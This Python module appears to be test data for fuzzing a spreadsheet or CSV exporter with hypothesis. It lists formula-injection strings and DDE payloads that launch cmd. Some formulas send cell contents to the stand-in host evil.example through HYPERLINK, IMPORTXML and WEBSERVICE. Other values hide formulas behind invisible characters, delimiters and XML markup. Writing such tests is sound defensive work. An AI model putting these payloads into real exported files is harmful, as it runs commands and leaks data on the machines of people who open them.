"""Values that somebody might send in the hope that a spreadsheet runs them or a file breaks."""

from hypothesis import strategies as st

# Any character but a NUL and halves of characters, which no lead holds.
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0"))

FORMULAS = [
    "=1+1",
    "+31201234567",
    "-2+3",
    "@SUM(1,1)",
    "=1+1;2",
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!\"\"",
    "+1-1",
    "-1",
    "==1",
    "=\n1",
]
FULL_WIDTH = ["＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫1"]
BEHIND_SOMETHING_UNSEEN = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\u2066=1+1\u2069",
    "\ufeff=1+1",
    "\x01=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    " \u200b\t=1+1",
]
DELIMITERS = [
    '";=1+1;"',
    '"=1+1"',
    '""',
    '"',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\r\n=1+1",
    "a\n=1+1",
    "a\r=1+1",
    'a";"=1+1',
    "'=1+1",
    "'",
    ";;;;",
    "\r\n",
    "\t",
]
MARKUP = [
    "{=1+1}",
    '<r></t></is></c><c r="A9"><f>1+1</f></c></r>',
    "<r><t>rich</t></r>",
    "<r></r>",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "_x003D_1+1",
    "_x000D_",
    "<script>alert(1)</script>",
    "a\ufffeb\uffffc",
]
LONG = ["x" * 32_768, "=" + "1+" * 16_384 + "1", "<r>" + "é" * 32_768 + "</r>", "😀" * 20_000]

# What a spreadsheet could take for a formula.
RUNNING = [*FORMULAS, *FULL_WIDTH, *BEHIND_SOMETHING_UNSEEN]
HOSTILE = [*RUNNING, *DELIMITERS, *MARKUP, *LONG]
